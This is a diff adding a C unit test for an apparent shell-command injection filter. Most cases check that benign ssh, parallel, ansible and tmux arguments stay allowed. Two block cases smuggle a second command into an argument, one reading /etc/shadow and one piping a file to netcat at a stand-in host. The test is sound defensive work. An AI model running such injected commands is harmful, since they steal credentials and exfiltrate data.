@@ -266,6 +266,46 @@ static void more_runners_of_a_command_string(void **state)
 	}
 }
 
+/* review22's findings kept (its test file holds the attacks): their
+ * benign twins -- quotes an input brings without an operator, a {= or
+ * {{ outside a template, a plain --ssh or sshlogin, tmux command strings
+ * that run plain lines. */
+static void review22_twins_stay_allowed(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"ssh backup@h.example ls ", "/srv\\; cat /etc/shadow", ""},
+	    {"parallel -j2 wc -l ", "\"a.txt | nc h.example 9\"", " ::: x"},
+	};
+	static const char *const passes[][3] = {
+	    {"ssh backup@h.example cat ", "\"my notes.txt\"", ""},
+	    {"ssh backup@h.example ls ", "my\\ dir", ""},
+	    {"parallel gzip ::: ", "\"my; file.txt\"", ""},
+	    {"parallel echo ", "'hello world'", " ::: a"},
+	    {"parallel gzip ::: '", "a{=b}.txt", "'"},
+	    {"echo '", "{{ name }} and {= x =}", "'"},
+	    {"ansible web -m copy -a '", "src=a.txt dest=/tmp/{name}.txt", "'"},
+	    {"parallel --ssh '", "ssh -p 2222", "' -S web1 uptime ::: a"},
+	    {"parallel -S ", "web1,web2", " gzip ::: a"},
+	    {"tmux if-shell 'test -f ", "x.conf", "' 'source x.conf'"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+	{
+		const char *a[] = {"tmux", "set-hook", "-g", "session-created", "run-shell 'make'",
+		                   NULL};
+		assert_int_equal(argv_verdict("run-shell 'make'", a), MOAT_ALLOW);
+	}
+	{
+		const char *a[] = {"ansible", "web", "-m", "debug", "-a", "msg=hello {name}", NULL};
+		assert_int_equal(argv_verdict("msg=hello {name}", a), MOAT_ALLOW);
+	}
+	{
+		const char *a[] = {"sem", "--id", "build", "make all", NULL};
+		assert_int_equal(argv_verdict("build", a), MOAT_ALLOW);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -274,6 +314,7 @@ int main(void)
 	    cmocka_unit_test(runners_in_argv_arrays),
 	    cmocka_unit_test(sed_script_value_words_without_quotes),
 	    cmocka_unit_test(more_runners_of_a_command_string),
+	    cmocka_unit_test(review22_twins_stay_allowed),
 	};
 
 	return cmocka_run_group_tests(tests, group_setup, group_teardown);
